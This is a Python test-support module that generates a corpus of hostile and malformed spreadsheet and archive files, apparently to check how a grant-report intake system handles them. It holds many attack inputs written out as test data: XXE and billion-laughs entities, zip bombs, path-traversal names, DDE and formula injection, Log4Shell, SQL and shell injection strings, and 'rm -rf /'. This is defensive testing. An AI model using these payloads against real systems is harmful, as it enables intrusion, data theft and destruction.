"""Hostile and odd files, each made from a good return, with what is to become of it.

`python -m tests.support.hostile --to FOLDER` writes them all, to be looked at or sent to another program.
"""

import argparse
import gzip
import os
import re
import socket
import struct
import time
import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from random import Random
from typing import Literal
from xml.sax.saxutils import escape

from openpyxl.comments import Comment
from openpyxl.workbook import Workbook

from statsbidrag.base.archive import packed
from statsbidrag.model.returns import Return
from statsbidrag.returns import intake, second_reader
from tests.support import filling, planted
from tests.support.filling import place
from tests.support.planted import (
    COSTS,
    NUMBER,
    Make,
    as_csv,
    edited,
    fields,
    filled,
    good,
    line,
    ole,
    raw,
    repacked,
    rewritten,
    zipped,
)

Outcome = Literal["accepted", "warned", "held", "refused", "skipped"]
Files = Mapping[tuple[Outcome, *tuple[str, ...]], Mapping[str, Make]]
"""What becomes of files, and by which rules -> their names and how they are made."""
COSTS_PART, ACTIVITIES_PART = "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml"


@dataclass(frozen=True)
class Odd:
    """One file of the corpus: its name in the inbox, how it is put there, what becomes of it and by
    which rules."""

    name: str
    put: Callable[[Path], object]
    """At a path."""
    outcome: Outcome
    rules: tuple[str, ...] = ()


# -- a part of the good workbook, written otherwise ------------------------------------------------


def xml(old: str, new: str, part: str = COSTS_PART, count: int = 1) -> Make:
    """The good workbook with a piece of its XML replaced, as the spreadsheet of another program or
    hand has it."""
    return rewritten(part, lambda content: content.replace(old.encode(), new.encode(), count))


def _amount(value: str, kind: str = "n") -> Make:
    """The third line's amount cell with another value element and type."""
    return xml('t="n"><v>30000.25</v>', f't="{kind}">{value}')


def _below(what: str) -> Make:
    """Something below the rows of the costs."""
    return xml("</sheetData>", f"</sheetData>{what}")


def _pattern(pattern: str, new: str, part: str = COSTS_PART) -> Make:
    return rewritten(part, lambda content: re.sub(pattern.encode(), new.encode(), content))


def _part(name: str, content: str | bytes) -> Make:
    return zipped(lambda archive: archive.writestr(name, content))


def _member(name: str, **changes: int) -> Make:
    """The good workbook with one more member, of which the zip says odd things."""

    def add(archive: zipfile.ZipFile) -> None:
        member = zipfile.ZipInfo(name)
        for field, value in changes.items():
            setattr(member, field, value)
        archive.writestr(member, b"x" * 100)

    return zipped(add)


def _twice(name: str) -> Make:
    def add(archive: zipfile.ZipFile) -> None:
        with warnings.catch_warnings(action="ignore"):
            archive.writestr(name, archive.read(COSTS_PART).replace(b"30000.25", b"99999.25"))

    return zipped(add)


def _many(archive: zipfile.ZipFile) -> None:
    for number in range(2001):
        archive.writestr(f"xl/media/{number}", b"")


def _directory(offset: int, layout: str, value: Callable[[bytes], int]) -> Make:
    """The good workbook with a field of every entry of its zip's central directory written
    otherwise.

    At 8 the flags, at 16 the checksum, at 20 the size when packed, at 24 the size.
    """

    def make() -> bytes:
        content = bytearray(good())
        for entry in re.finditer(b"PK\x01\x02", good()):
            struct.pack_into(layout, content, entry.start() + offset, value(good()))
        return bytes(content)

    return make


def _renamed(name: str, content: bytes) -> tuple[str, bytes]:
    """The main part elsewhere, as some services export it."""
    return name.replace("workbook.xml", "workbook2.xml"), content.replace(
        b"xl/workbook.xml", b"xl/workbook2.xml"
    )


def _types(kind: str) -> bytes:
    said = f'<Types><Override ContentType="application/vnd.{kind}"/></Types>'
    return packed([("[Content_Types].xml", said.encode())])


def _odf(kind: str) -> bytes:
    return packed(
        [
            ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
            ("content.xml", b"<x/>"),
        ]
    )


def _name(name: str, refers: str) -> Make:
    """A defined name of the form that stands for something else."""
    return _pattern(f'(<definedName name="{name}">)[^<]*', rf"\g<1>{refers}", "xl/workbook.xml")


def _titled(title: str) -> Make:
    """The costs on a sheet of another name; the table is still found."""
    return _pattern(
        'name="Kostnader" sheetId', f'name="{escape(title)}" sheetId', "xl/workbook.xml"
    )


def _rel(kind: str, target: str, mode: str = "") -> Make:
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    said = f'<Relationship Id="rX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return xml("</Relationships>", said, "xl/worksheets/_rels/sheet3.xml.rels")


# -- files that are something else -----------------------------------------------------------------

OTHER_KINDS: Mapping[str, tuple[bytes, str]] = {
    "gammal.xls": (ole("Workbook"), "fil-xls"),
    "gammal 95.xls": (ole("Book"), "fil-xls"),
    "xls med fel namn.xlsx": (ole("Workbook"), "fil-xls"),
    "excel 2.xls": (b"\x09\0\x04\0\x02\0\x10\0" + bytes(99), "fil-xls"),
    "excel 4.xls": (b"\x09\x04\x06\0\x00\0\x10\0" + bytes(99), "fil-xls"),
    "excel 5.xls": (b"\x09\x08\x10\0\x00\x05\x05\0" + bytes(99), "fil-xls"),
    "lösenord.xlsx": (ole("EncryptionInfo", "EncryptedPackage"), "fil-losenord"),
    "lösenord.csv": (ole("EncryptedPackage"), "fil-losenord"),
    "etikett.xlsx": (ole("EncryptedPackage", "DRMEncryptedDataSpace"), "fil-etikett"),
    "etikett.xls": (ole("Workbook", "\tDRMContent"), "fil-etikett"),
    "etikett.pxlsx": (b".pfile\3\0" + bytes(40), "fil-etikett"),
    "brev.doc": (ole("WordDocument"), "fil-dokument"),
    "bilder.ppt": (ole("PowerPoint Document"), "fil-dokument"),
    "mejl.msg": (ole("__substg1.0_0037001F"), "fil-epost"),
    "okänd ole.xlsx": (ole("Något annat"), "fil-fel-format"),
    "binär.xlsb": (_types("ms-excel.sheet.binary.macroEnabled.main"), "fil-xlsb"),
    "binär.xlsx": (_types("ms-excel.sheet.binary.macroEnabled.main"), "fil-xlsb"),
    "kalkyl.ods": (_odf("spreadsheet"), "fil-ods"),
    "kalkyl från ods.xlsx": (_odf("spreadsheet"), "fil-ods"),
    "text.odt": (_odf("text"), "fil-dokument"),
    "brev.docx": (
        _types("openxmlformats-officedocument.wordprocessingml.document.main+xml"),
        "fil-dokument",
    ),
    "bilder.pptx": (
        _types("openxmlformats-officedocument.presentationml.presentation.main+xml"),
        "fil-dokument",
    ),
    "office utan bok.xlsx": (_types("openxmlformats-officedocument.vmlDrawing"), "fil-fel-format"),
    "äpple.numbers": (packed([("Index/Document.iwa", b"\0")]), "fil-numbers"),
    "allt.zip": (packed([("farsta.csv", b"bidrag;namnd")]), "fil-arkiv"),
    "allt i zip.xlsx": (packed([("mapp/farsta.csv", b"bidrag;namnd")]), "fil-arkiv"),
    "tomt arkiv.zip": (packed([]), "fil-arkiv"),
    "packad.csv.gz": (gzip.compress(b"bidrag;namnd", mtime=0), "fil-arkiv"),
    "packad.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "fil-arkiv"),
    "packad.rar": (b"Rar!\x1a\x07\0" + bytes(40), "fil-arkiv"),
    "utskrift.pdf": (b"%PDF-1.7\n1 0 obj", "fil-pdf"),
    "utskrift.xlsx": (b"%PDF-1.4\n1 0 obj", "fil-pdf"),
    "skärm.png": (b"\x89PNG\r\n\x1a\n" + bytes(40), "fil-bild"),
    "foto.jpg": (b"\xff\xd8\xff\xe0" + bytes(40), "fil-bild"),
    "rörlig.gif": (b"GIF89a" + bytes(40), "fil-bild"),
    "ritad.bmp": (b"BM\x36\x10\0\0\0\0\0\0" + bytes(40), "fil-bild"),
    "inläst.tif": (b"II*\0" + bytes(40), "fil-bild"),
    "telefon.heic": (b"\0\0\0\x18ftypheic" + bytes(40), "fil-bild"),
    "brev.rtf": (b"{\\rtf1\\ansi Redovisning}", "fil-dokument"),
    "webb.xls": (b"<html><body><table><tr><td>1;2</td></tr></table></body></html>", "fil-webbsida"),
    "webb.html": ("\ufeff\n<!DOCTYPE html>\n<html><p>a, b</p>".encode(), "fil-webbsida"),
    "webb utf-16.xls": (
        "<html><table><tr><td>1;2</td></tr></table>".encode("utf-16"),
        "fil-webbsida",
    ),
    "webb i ett.xls": (
        b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\n\r\na;b",
        "fil-webbsida",
    ),
    "mejl.eml": (b"Received: from x; by y\r\nSubject: a, b\r\n", "fil-epost"),
    "kalkyl 2003.xml": (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?><Workbook/>',
        "fil-xml",
    ),
    "kalkyl 2003.xls": (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?><Workbook/>',
        "fil-xml",
    ),
    "bokföring.se": (b"#FLAGGA 0\r\n#FORMAT PC8\r\n#SIETYP 4\r\n", "fil-sie"),
    "bokföring.txt": ('\ufeff#PROGRAM "x;y" 1\n#SIETYP 4\n'.encode(), "fil-sie"),
    "bokföring 5.sie": (
        b'<?xml version="1.0"?>\n<!-- x -->\n<Sie xmlns="http://www.sie.se/sie5"/>',
        "fil-sie",
    ),
    "data.json": (b'{"bidrag": "x", "belopp": 1}', "fil-json"),
    "data.txt": (b'\xef\xbb\xbf[\r\n  {"bidrag": "x"}]', "fil-json"),
    "data.csv": (b"[1, 2.5]", "fil-json"),
    "kalkyl.slk": (b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\n", "fil-fel-format"),
    "kalkyl.dif": (b'TABLE\r\n0,1\r\n"EXCEL"\r\n', "fil-fel-format"),
    "bild.svg": (b"<svg onload='alert(1;2)'/>", "fil-xml"),
    "faktura.pdf.exe": (b"MZ\x90\0" + bytes(40), "fil-program"),
    "program": (b"\x7fELF\x02\x01" + bytes(40), "fil-program"),
    "städa.sh": (b"#!/bin/sh\nrm -rf /; echo a,b\n", "fil-program"),
    "farsta.xlsx.lnk": (
        b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(40),
        "fil-genvag",
    ),
    "farsta.url": (b"[InternetShortcut]\r\nURL=file:///etc/passwd\r\n", "fil-genvag"),
    "tom.xlsx": (b"", "fil-tom"),
    "tom.csv": (b"", "fil-tom"),
    "bara blanka.csv": (b" \r\n\t\r\n", "fil-tom"),
    "bara nollor.xlsx": (bytes(5000), "fil-tom"),
    "bara märke.csv": (b"\xef\xbb\xbf", "fil-tom"),
    "brus.xlsx": (Random(5).randbytes(5000), "fil-fel-format"),
    "databas.db": (b"SQLite format 3\0" + bytes(100), "fil-fel-format"),
    "anteckning.md": (b"Redovisningen kommer i morgon", "fil-fel-format"),
    "skräp före.xlsx": (b"x\0" + planted.good.__doc__.encode(), "fil-fel-format"),  # type: ignore[union-attr]
    "bara signatur.xlsx": (b"PK\x03\x04", "fil-trasig"),
}

# -- zips ------------------------------------------------------------------------------------------

ZIPS: Files = {
    ("accepted",): {
        "arkiv i boken": _part("xl/media/x.zip", packed([("a", b"b")])),
        "kommentar i arkivet": zipped(lambda z: setattr(z, "comment", b"= 1+1" * 500)),
        "trasig bild": _part("xl/media/bild.png", b"\x89PNG\r\n\x1a\n" + bytes(40)),
        "främmande del": _part("customXml/item1.xml", '<row r="99999999"/>'),
    },
    ("refused", "fil-misstankt"): {
        "absolut namn": _part("/etc/x.xml", "<x/>"),
        "namn uppåt": _part("../../x.xml", "<x/>"),
        "namn uppåt i mitten": _part("xl/../../x.xml", "<x/>"),
        "namn uppåt bakvänt": _part("xl\\..\\..\\x.xml", "<x/>"),
        "enhet i namn": _part("C:/x.xml", "<x/>"),
        "samma del två gånger": _twice(COSTS_PART),
        "samma del i versaler": _twice("XL/Worksheets/Sheet3.xml"),
        "samma del bakvänt": _twice("xl\\worksheets\\sheet3.xml"),
        "länk i arkivet": _member("xl/länk", external_attr=0o120777 << 16),
        "enhet i arkivet": _member("xl/rör", external_attr=0o010666 << 16),
        "packad med bzip2": _member("xl/media/x", compress_type=zipfile.ZIP_BZIP2),
        "packad med lzma": _member("xl/media/x", compress_type=zipfile.ZIP_LZMA),
        "tusentals delar": zipped(_many),
        "delar som delar byte": _directory(20, "<L", lambda content: len(content) // 2),
        "bomb på 30 MB": _part("xl/media/x.bin", bytes(30_000_000)),
    },
    ("refused", "fil-losenord"): {"krypterad del": _directory(8, "<H", lambda _: 1)},
    ("refused", "fil-trasig"): {
        "storlek som ljuger": _directory(24, "<L", lambda _: 10),
        "kontrollsumma fel": _directory(16, "<L", lambda _: 1),
        "klippt på mitten": lambda: good()[: len(good()) // 2],
        "klippt i slutet": lambda: good()[:-30],
        "utan innehållsförteckning": lambda: good()[: good().index(b"PK\x01\x02")],
        "bok utan namn på delar": rewritten("[Content_Types].xml", lambda _: b"<x/>"),
        "bok utan innehåll": rewritten("xl/workbook.xml", lambda _: b""),
        "två slut på arkivet": zipped(lambda z: setattr(z, "comment", b"PK\x05\x06" * 500)),
    },
    ("refused", "fil-for-stor"): {"bomb på 61 MB": _part("xl/media/x.bin", bytes(61_000_000))},
    ("refused", "fil-olasbar"): {
        "huvuddel med annat namn": repacked(_renamed),
        "bladnamn som Excel inte tillåter": _titled("Kost*nader"),
    },
    ("refused", "fil-strikt"): {
        "strikt": xml(
            "schemas.openxmlformats.org/spreadsheetml",
            "purl.oclc.org/ooxml/spreadsheetml",
            "xl/workbook.xml",
        ),
    },
}

# -- XML -------------------------------------------------------------------------------------------

_BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPES = {
    "doctype": "<!DOCTYPE worksheet>",
    "doctype utanför": '<!DOCTYPE worksheet SYSTEM "http://x.invalid/x.dtd">',
    "tusen skratt": f'<!DOCTYPE x [<!ENTITY a0 "ha">{_BOMB}]>',
    "fil på disken": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "parameterentitet": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.invalid/a"> %a;]>',
}
_ROWS_WITHOUT_END = "<row/>" * 30_000
_CELLS_WITHOUT_END = f"<row>{'<c/>' * 200}</row>" * 600
_FAR = "XFD1048576"

XML: Files = {
    ("accepted",): {
        "enkla citattecken": _pattern(r'r="([A-Z]+[0-9]+)"', r"r='\1'"),
        "kommentarer i xml": _pattern(r"<sheetData>", r"<!-- &#61;1+1 --><?php x?><sheetData>"),
        "cdata": xml("Juli till september", "<![CDATA[Juli till september]]>"),
        "hundratusen nivåer": _below(f"{'<a>' * 90_000}{'</a>' * 90_000}"),
        "dimension som ljuger lite": _pattern('<dimension ref="[^"]*"', '<dimension ref="A1"'),
        "dimension som ljuger mycket": _pattern(
            '<dimension ref="[^"]*"', f'<dimension ref="A1:{_FAR}"'
        ),
        "länk långt bort": _below(
            f'<hyperlinks><hyperlink ref="{_FAR}" location="A1"/></hyperlinks>'
        ),
        "anteckning långt bort": _part(
            "xl/comments9.xml",
            f'<comments><commentList><comment ref="{_FAR}"/></commentList></comments>',
        ),
        "namn på en kolumn": _name("prognos", "Redovisning!$C:$C"),
        "namn på en rad": _name("prognos", "Redovisning!$5:$5"),
        "namn på ingenting": _name("prognos", "#REF!"),
        "namn i annan bok": _name("prognos", "[1]Blad1!$A$1"),
        "namn som är en formel": _name("prognos", "WEBSERVICE(&quot;http://x.invalid&quot;)"),
        "namn på många celler": _name("prognos", "Redovisning!$C$16:$XFD$1048576"),
    },
    ("held", "fil-laser-olika"): {
        "utf-16": rewritten(COSTS_PART, lambda c: c.decode().encode("utf-16")),
        "tal med blanktecken": _amount("<v> 30000.25 </v>"),
        "tabell utan område": _pattern(' ref="A5:I25"', ' ref="A5"', "xl/tables/table1.xml"),
    },
    ("held", "belopp-olasligt"): {"tal utan gräns": _amount("<v>1e999</v>")},
    ("held", "obligatorisk-cell-tom"): {
        "belopp i främmande namnrymd": xml('<c r="H8"', '<c xmlns="urn:x" r="H8"'),
        "beloppen sammanfogade": _below('<mergeCells><mergeCell ref="H8:H9"/></mergeCells>'),
        "namn långt bort": _name("version", "Redovisning!$XFD$1048576"),
    },
    ("held", "kolumn-saknas"): {
        "tabell på fel rad": _pattern(' ref="A5:I25"', ' ref="A1:I25"', "xl/tables/table1.xml"),
    },
    ("refused", "fil-misstankt"): {
        **{name: xml("<worksheet", f"{doctype}<worksheet") for name, doctype in _DOCTYPES.items()},
        "doctype i relationer": xml("<Relationships", "<!DOCTYPE x><Relationships", "_rels/.rels"),
        "doctype i utf-16": rewritten(
            COSTS_PART, lambda c: f"<!DOCTYPE x>{c.decode()}".encode("utf-16")
        ),
        "rad som brutet tal": xml('<row r="2"', '<row r="2e0"'),
        "adress i gemener": xml('<c r="H8"', '<c r="h8"'),
        "adress utan rad": xml('<c r="H8"', '<c r="H"'),
        "rad som inte är cellernas": xml('<row r="2"', '<row r="1048576"'),
        "rad noll": xml('<c r="H8"', '<c r="H0"'),
        "samma cell två gånger": xml(
            "<v>30000.25</v></c>", '<v>30000.25</v></c><c r="H8"><v>1</v></c>'
        ),
        "samma rad två gånger": xml(
            "</sheetData>", '<row r="8"><c r="H8"><v>1</v></c></row></sheetData>'
        ),
        "två värden i en cell": _amount("<v>30000.25</v><v>1</v>"),
        "tal med understreck": _amount("<v>30_000</v>"),
        "tal i fullbredd": _amount("<v>３００００</v>"),
        "tal i arabiska siffror": _amount("<v>٣٠٠٠٠</v>"),
        "tal som inte är tal": _amount("<v>NaN</v>"),
        "tal med tusen siffror": _amount(f"<v>{'9' * 5000}</v>"),
        "text med minusnummer": _amount("<v>-1</v>", "s"),
        "okänd celltyp": _amount("<v>30000.25</v>", "x"),
        "sant som ord": _amount("<v>true</v>", "b"),
        "delat namn på bladet": _pattern(
            'Target="/xl/worksheets/sheet4.xml"',
            'Target="/xl/worksheets/sheet3.xml"',
            "xl/_rels/workbook.xml.rels",
        ),
        "samma blad många gånger": _pattern(
            r'(<sheet [^>]*name="Villkor"[^>]*/>)', r"\1" * 50, "xl/workbook.xml"
        ),
        "blad bland länkarna": _pattern(
            'Target="/xl/worksheets/sheet5.xml"',
            'Target="externalLinks/x.xml"',
            "xl/_rels/workbook.xml.rels",
        ),
    },
    ("refused", "fil-trasig"): {
        "okänd teckenkod": xml("<worksheet", '<?xml version="1.0" encoding="UTF-7"?><worksheet'),
        "trasig xml": xml("</sheetData>", "</sheetDat>"),
        "trasig stil": rewritten("xl/styles.xml", lambda c: c[:500]),
    },
    ("refused", "fil-olasbar"): {"text som saknas": _amount("<v>99999</v>", "s")},
    ("refused", "fil-for-manga-rader"): {
        **{
            f"långt bort, {how}": xml('<c r="A1"', f"<c{written}")
            for how, written in {
                "som vanligt": f' r="{_FAR}"',
                "enkla citattecken": f" r='{_FAR}'",
                "radbryt": f'\n\tr="{_FAR}"',
                "teckenkoder": ' r="&#88;FD1048576"',
                "åt höger": ' r="XFD1"',
                "nedåt": ' r="A1048576"',
                "efter andra fält": f' foo="{"x" * 500}" r="{_FAR}"',
            }.items()
        },
        "långt bort i utf-16": rewritten(
            COSTS_PART,
            lambda c: (
                c.replace(b'<c r="A1"', f'<c r="{_FAR}"'.encode(), 1).decode().encode("utf-16")
            ),
        ),
        "rader utan slut": xml("</sheetData>", f"{_ROWS_WITHOUT_END}</sheetData>"),
        "kolumner utan slut": xml("</row>", f"{'<c/>' * 300}</row>"),
        "tabell utan slut": _pattern(' ref="A5:I25"', ' ref="A5:I1048576"', "xl/tables/table1.xml"),
    },
    ("refused", "fil-for-mycket"): {
        "celler utan slut": xml("</sheetData>", f"{_CELLS_WITHOUT_END}</sheetData>"),
        "hundratals blad": xml(
            "</sheets>",
            "".join(
                f'<sheet name="B{n}" sheetId="{n + 9}" r:id="x{n}" xmlns:r="urn:r"/>'
                for n in range(200)
            )
            + "</sheets>",
            "xl/workbook.xml",
        ),
        "hela bladet sammanfogat": _below(f'<mergeCells><mergeCell ref="A1:{_FAR}"/></mergeCells>'),
        "mycket sammanfogat": _below('<mergeCells><mergeCell ref="A1:IV20000"/></mergeCells>'),
        "länk överallt": _below(
            '<hyperlinks><hyperlink ref="A1:IV20000" location="A1"/></hyperlinks>'
        ),
        "hundratusentals format": _pattern(
            "</cellXfs>", "<xf/>" * 110_000 + "</cellXfs>", "xl/styles.xml"
        ),
        "hundratusentals texter": _part(
            "xl/sharedStrings.xml",
            f"<sst>{''.join(f'<si><t>{n}</t></si>' for n in range(210_000))}</sst>",
        ),
    },
}

# -- what only concerns looks, and what holds nothing ----------------------------------------------

_STYLES, _CORE, _BOOK = "xl/styles.xml", "docProps/core.xml", "xl/workbook.xml"
_TABLE = "xl/tables/table1.xml"
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _rows_of(cells: str, rows: Iterable[int]) -> str:
    """Rows of cells with a format and nothing else, in columns."""
    one = "".join(f'<c r="{column}%d" s="1"/>' for column in cells)
    return "".join(
        f'<row r="{row}" s="1" customFormat="1">{one % ((row,) * len(cells))}</row>' for row in rows
    )


def _added(rows: str) -> Make:
    """Rows after those of the costs."""
    return xml("</sheetData>", f"{rows}</sheetData>")


def _blank_formulas(cell: str) -> str:
    """Formulas filled down, each in a cell of the given form."""
    return "".join(
        f'<row r="{row}">{cell % ("A", row)}{cell % ("H", row)}</row>' for row in range(30, 90)
    )


def _prefixed(content: bytes) -> bytes:
    """The same XML with a prefix on each element, as Microsoft's own library for programs writes
    it."""
    return re.sub(rb"<(/?)(?=[a-zA-Z])", rb"<\1x:", content).replace(b"xmlns=", b"xmlns:x=")


LOOKS: Files = {
    ("accepted",): {
        "tom fyllning": _pattern("(?s)<fill>.*?</fill>", "<fill/>", _STYLES),
        "typsnitt av okänd familj": _pattern(
            '<family val="[0-9]+" ?/>', '<family val="99"/>', _STYLES
        ),
        "okänt attribut": _pattern("<font>", '<font odd="1">', _STYLES),
        "storlek som ord": _pattern('<sz val="[^"]*" ?/>', '<sz val="stor"/>', _STYLES),
        "färg som ord": _pattern('rgb="[^"]*"', 'rgb="röd"', _STYLES),
        "okänt mönster": _pattern('patternType="[^"]*"', 'patternType="prickig"', _STYLES),
        "okänd ram": _pattern(
            "(?s)<border>.*?</border>", '<border><left style="vågig"/></border>', _STYLES
        ),
        "okänd riktning": _pattern('horizontal="[^"]*"', 'horizontal="snett"', _STYLES),
        "utan typsnitt": _pattern("(?s)<fonts.*?</fonts>", "", _STYLES),
        "utan grundstilar": _pattern("(?s)<cellStyleXfs.*?</cellStyleXfs>", "", _STYLES),
        "okänt i stilarna": _pattern("</styleSheet>", "<nytt/></styleSheet>", _STYLES),
        "stil som inte finns": _pattern('<c r="H8" s="[0-9]+"', '<c r="H8" s="900"'),
        "stil av egenskaper": _pattern("<xf ", '<xf odd="1" ', _STYLES),
        "skapad i går": _pattern("(<dcterms:created[^>]*>)[^<]*", r"\1i går", _CORE),
        "egenskaper som inte är några": rewritten(_CORE, lambda _: b"<x/>"),
        "programmets egenskaper": rewritten(
            "docProps/app.xml", lambda _: b"<Properties><odd/></Properties>"
        ),
        "egna egenskaper": _part(
            "docProps/custom.xml", "<Properties><property><odd/></property></Properties>"
        ),
        "tema som inte är något": rewritten("xl/theme/theme1.xml", lambda _: b"<x/>"),
        "bokens egenskaper": _pattern("<workbookPr ?/>", '<workbookPr odd="1"/>', _BOOK),
        "bokens fönster": _pattern(
            "<workbookView [^>]*/>", '<workbookView activeTab="99" odd="x"/>', _BOOK
        ),
        "bokens uträkning": _pattern("<calcPr [^>]*/>", '<calcPr calcMode="ibland"/>', _BOOK),
        "utskriftsområde": xml(
            "</definedNames>",
            '<definedName name="_xlnm.Print_Titles" localSheetId="2">odd</definedName>'
            '<definedName name="x" localSheetId="99">A1</definedName></definedNames>',
            _BOOK,
        ),
        "namn med okänt": _pattern("<definedName ", '<definedName odd="1" ', _BOOK),
        "pivottabell som saknas": xml(
            "</workbook>",
            f'<pivotCaches><pivotCache cacheId="1" r:id="x" {_R}/></pivotCaches></workbook>',
            _BOOK,
        ),
        "bladets vy": _pattern("<sheetView ", '<sheetView odd="1" zoomScale="9999" '),
        "utskrift": _below('<pageSetup scale="1" orientation="snett" odd="1"/>'),
        "färgregel": _below(
            '<conditionalFormatting sqref="A1"><cfRule type="ny" odd="1"/></conditionalFormatting>'
        ),
        "rullista": _below(
            '<dataValidations><dataValidation type="ny" sqref="A1"/></dataValidations>'
        ),
        "skydd": _below('<sheetProtection algorithmName="nytt" odd="1"/>'),
        "filter": _below('<autoFilter ref="odd"><odd/></autoFilter>'),
        "figur som saknas": _below(f'<drawing {_R} r:id="x"/><legacyDrawing {_R} r:id="y"/>'),
        "radens egenskaper": _pattern("<row (?![^>]*odd)", '<row odd="1" '),
        "kolumnens egenskaper": _pattern("<col ", '<col odd="1" '),
        "tabellens egenskaper": _pattern("<table ", '<table odd="1" ', _TABLE),
        "tabellens stil": _pattern("<tableStyleInfo ", '<tableStyleInfo odd="1" ', _TABLE),
        "formel av okänt slag": xml(
            "<v>30000.25</v>", '<f t="dataTable" odd="1" ref="H8">x</f><v>30000.25</v>'
        ),
        "formel som inte är någon": xml(
            "<v>30000.25</v>", '<f t="shared" si="0" ref="H8:H9">&quot;</f><v>30000.25</v>'
        ),
        "dag som text i iso": _pattern(
            '(<c r="G8"[^>]*) t="n"><v>45199</v>', r'\1 t="d"><v>2023-09-30</v>'
        ),
        "prefix": rewritten(COSTS_PART, _prefixed),
        "bakvända snedstreck": repacked(lambda name, content: (name.replace("/", "\\"), content)),
        "versaler i namn på delar": repacked(
            lambda n, c: (n.replace("worksheets/sheet3", "Worksheets/Sheet3"), c)
        ),
        "text efter bladet": _below("None"),
        "rad långt ner": _added('<row r="1048576" ht="12.8" customHeight="1"/>'),
        "färg i det sista hörnet": _added(f'<row r="1048576"><c r="{_FAR}" s="1"/></row>'),
        "färg åt höger": _pattern('(<row r="9".*?)</row>', r'\1<c r="XFD9" s="1"></c></row>'),
        "trettiotusen målade rader": _added(_rows_of("ABCDEFGHI", range(100, 30_100))),
        "rutnät": _added(_rows_of("ABCDEFGHIJKLMNOPQRSTUVWXYZ", range(100, 1_101))),
        "tomma värden": _added(
            '<row r="50000"><c r="A50000" s="1"><v></v></c><c r="B50000"><v/></c></row>'
        ),
        "en hel rad sammanfogad": _below('<mergeCells><mergeCell ref="A1:XFD1"/></mergeCells>'),
        "formler som inget visar": _added(
            _blank_formulas('<c r="%s%d" t="str"><f>IF(F1="","",1)</f><v></v></c>')
        ),
        "delade formler som inget visar": _added(
            _blank_formulas(
                '<c t="str" r="%s%d"><f t="shared" si="9"/><v xml:space="preserve"/></c>'
            )
        ),
    },
    ("held", "cell-formel-utan-varde", "obligatorisk-cell-tom"): {
        "formel som inte är uträknad": _added(
            '<row r="30"><c r="A30" t="str"><f>IF(F1="","",1)</f></c></row>'
        ),
    },
    ("held", "datum-olasligt"): {
        "dag i iso som inte finns": _pattern(
            '(<c r="G8"[^>]*) t="n"><v>45199</v>', r'\1 t="d"><v>2023-13-45</v>'
        ),
    },
    ("held", "cell-felvarde"): {"fel utan formel": _amount("<v>#N/A</v>", "e")},
    ("refused", "fil-for-manga-rader"): {
        "värde under målade rader": _added(
            _rows_of("AB", range(100, 20_000)) + '<row r="20001"><c r="A20001"><v>1</v></c></row>'
        ),
    },
    ("refused", "fil-misstankt"): {"värde med något i": _amount("<v>30000<x/>.25</v>")},
}

# -- macros, links and what is embedded: told, never followed or run -------------------------------

_EXTERNAL = ' TargetMode="External"'
ACTIVE: Files = {
    ("warned", "fil-makron"): {
        "makron": _part("xl/vbaProject.bin", ole("VBA")),
        "makron under annat namn": _rel("vbaProject", "/xl/x.bin"),
        "makroblad": _part("xl/macrosheets/sheet1.xml", "<x/>"),
        "activex": _part("xl/activeX/activeX1.xml", "<x/>"),
    },
    ("warned", "fil-lankar"): {
        "länk till annan bok": _part(
            "xl/externalLinks/externalLink1.xml", '<externalLink><row r="99999"/></externalLink>'
        ),
        "dde": _part(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        ),
        "databaskoppling": _part(
            "xl/connections.xml", '<connections><connection type="1"/></connections>'
        ),
        "webbfråga": _part("xl/queryTables/queryTable1.xml", "<x/>"),
        "bild från nätet": _rel("image", "http://x.invalid/x.png", _EXTERNAL),
        "mall från nätet": _rel("attachedTemplate", "http://x.invalid/x.dotm", _EXTERNAL),
    },
    ("warned", "fil-inbaddat"): {
        "inbäddat objekt": _part("xl/embeddings/oleObject1.bin", ole("x")),
        "inbäddat paket": _rel("package", "/xl/x.docx"),
    },
}

# -- texts that are code somewhere -----------------------------------------------------------------

TEXTS: Mapping[str, str] = {
    "html": "<script>alert('x')</script><b>fet</b>",
    "html bild": '<img src="http://x.invalid/x.png" onerror=alert(1)>"><iframe '
    "src=file:///etc/passwd>",
    "html kommentar": "--><!-- ]]> </td></table> &lt;script&gt; &#60;i&#62;",
    "jinja": "{{ 7*7 }} {% include '/etc/passwd' %} {# borta #} {{ config }}",
    "docxtpl": "{{r x }} {%tr for x in y %} {%p if 1 %} </w:t></w:r><w:br/>",
    "formel": "=1+1",
    "formel länk": '=HYPERLINK("http://x.invalid/?"&A1,"Klicka")',
    "formel program": "=cmd|' /C calc'!A0",
    "formel plus": "+1+1",
    "formel minus": "-1+1",
    "formel snabel-a": "@SUM(1+1)",
    "formel tabb": "\t=1+1",
    "formel radbryt": "\r\n=1+1",
    "sql": "'; DROP TABLE board; -- \" OR 1=1 $1 ? :x %(x)s",
    "typst": '#read("/etc/passwd") *fet* _k_ $x$ @ref <etikett> #image("x") = Rubrik \\ // #{1+1} '
    "`x` ~",
    "latex": "\\input{/etc/passwd} \\write18{id} % borta",
    "skal": "$(id) `id` ; id | id && id > x ${HOME} %PATH% !!",
    "logg": "${jndi:ldap://x.invalid/a} %s %n %d {0} {name} \\n \\u0041",
    "länk": "javascript:alert(1) http://x.invalid/x file:///etc/passwd \\\\x.invalid\\x "
    "mailto:x@x.invalid",
    "nollbredd": "Förä\u200bldra\u200cgrup\u200dper\ufeff\u00ad",
